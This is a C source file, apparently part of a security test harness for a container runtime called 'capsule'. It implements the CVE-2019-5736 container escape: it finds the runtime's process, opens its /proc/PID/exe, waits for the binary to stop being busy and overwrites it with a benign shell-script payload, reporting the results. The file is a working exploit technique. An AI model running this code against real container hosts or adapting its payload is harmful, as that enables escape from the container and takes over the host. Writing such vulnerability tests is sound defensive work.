/* CVE-2019-5736: overwrite the runtime's binary through /proc/PID/exe of a process that runs it
 * inside the container. usage: exe_overwrite REPORT ARGV0 ROUNDS TIMEOUT_MS
 * Each round waits for a process whose argv[0] is ARGV0 (capsule's exec child, create's init in
 * a shared pid namespace, or capsule itself started by a #!/proc/self/exe script), opens its exe
 * while it runs, and then tries to write through that descriptor until the timeout. */
#include "attack.h"

static void attack(int pid, const char *argv0, long long deadline)
{
        char path[64];
        int fd = -1, attempts = 0, last = 0;
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        /* Keep trying while the process still runs capsule's code: its window may come late. */
        while (fd < 0 && ms_now() < deadline && argv0_is(pid, argv0)) {
                fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd >= 0 && !argv0_is(pid, argv0)) {
                        /* Opened just after it exec'd the workload: not capsule's binary. */
                        close(fd);
                        fd = -1;
                        break;
                }
                attempts++;
                if (fd < 0 && errno != ENOENT) /* ENOENT: it just exited */
                        last = errno;
        }
        if (fd < 0) {
                report("open-exe pid=%d failed after %d attempts: %s", pid, attempts, strerror(last));
                return;
        }
        char target[256] = "";
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        report("open-exe pid=%d ok: %s", pid, target);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        /* The binary is busy (ETXTBSY) while anything runs it: wait for that to end. */
        while (ms_now() < deadline) {
                int w = open(path, O_WRONLY | O_CLOEXEC);
                if (w < 0 && errno == ETXTBSY)
                        continue;
                if (w < 0) {
                        report("open-write pid=%d failed: %s", pid, strerror(errno));
                        break;
                }
                static const char payload[] = "#!/bin/sh\necho pwned\n";
                if (pwrite(w, payload, sizeof(payload) - 1, 0) < 0)
                        report("write pid=%d failed: %s", pid, strerror(errno));
                else
                        report("OVERWRITTEN via pid=%d", pid);
                close(w);
                break;
        }
        close(fd);
}

int main(int argc, char **argv)
{
        if (argc != 5)
                return 2;
        report_open(argv[1]);
        int rounds = atoi(argv[3]);
        long long timeout = atoll(argv[4]);
        report("ready");
        for (int r = 0; r < rounds; r++) {
                long long deadline = ms_now() + timeout;
                int pid = find_process(argv[2], deadline);
                if (!pid)
                        break;
                report("saw pid=%d", pid);
                attack(pid, argv[2], deadline);
                while (argv0_is(pid, argv[2]))
                        usleep(1000);
        }
        report("done");
        /* As the container's pid 1, exiting would kill what capsule runs next to us. */
        for (;;)
                pause();
}
